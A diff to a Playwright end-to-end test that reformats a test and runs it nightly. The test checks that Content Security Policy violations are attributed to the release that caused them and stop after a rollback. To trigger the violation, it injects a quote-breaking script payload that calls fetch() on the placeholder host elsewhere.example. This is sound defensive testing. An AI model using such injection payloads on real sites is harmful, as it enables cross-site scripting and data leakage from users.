@@ -1,7 +1,7 @@
 import type { Page } from '@playwright/test';
 import { containersPath, openContainers } from '../fixtures/containers-page.ts';
 import { operate, promoteMarked } from '../fixtures/marked-release.ts';
-import { expect, test } from '../fixtures/moved-time.ts';
+import { expect, nightly, test } from '../fixtures/moved-time.ts';
 
 const reports = '**/api/load-reports';
 const heading = 'Container Details';
@@ -59,24 +59,24 @@ test.describe('with a script that arrives at the second attempt', () => {
 test.describe('with a release that breaks a policy of the page', () => {
   test.use({ expectedErrors: [/Content Security Policy|elsewhere\.example/] });
 
-  test('what the browser refused counts against the release whose script it was [SRV-133]', async ({
-    page,
-    product,
-    signInAs,
-  }) => {
-    const refused = (release: string) =>
-      readNumber(product.url, 'quaywatch_policy_violations_total', { remote: 'tracking', release });
-    const asks = `"+(fetch("https://elsewhere.example/?q=1").catch(()=>0),"${heading}")+"`;
-    const bad = promoteMarked(product.releases, 'tracking', heading, asks);
-    await signInAs('paid');
+  test(
+    'what the browser refused counts against the release whose script it was [SRV-133]',
+    nightly,
+    async ({ page, product, signInAs }) => {
+      const refused = (release: string) =>
+        readNumber(product.url, 'quaywatch_policy_violations_total', { remote: 'tracking', release });
+      const asks = `"+(fetch("https://elsewhere.example/?q=1").catch(()=>0),"${heading}")+"`;
+      const bad = promoteMarked(product.releases, 'tracking', heading, asks);
+      await signInAs('paid');
 
-    await openContainers(page, 'QWCU2001010');
+      await openContainers(page, 'QWCU2001010');
 
-    await expect.poll(() => refused(bad)).toBeGreaterThan(0);
-    const before = await refused(bad);
-    operate(product.releases, 'rollback', 'tracking');
-    await openContainers(page, 'QWCU2001010');
-    await page.goto('about:blank');
-    expect(await refused(bad)).toBe(before);
-  });
+      await expect.poll(() => refused(bad)).toBeGreaterThan(0);
+      const before = await refused(bad);
+      operate(product.releases, 'rollback', 'tracking');
+      await openContainers(page, 'QWCU2001010');
+      await page.goto('about:blank');
+      expect(await refused(bad)).toBe(before);
+    },
+  );
 });
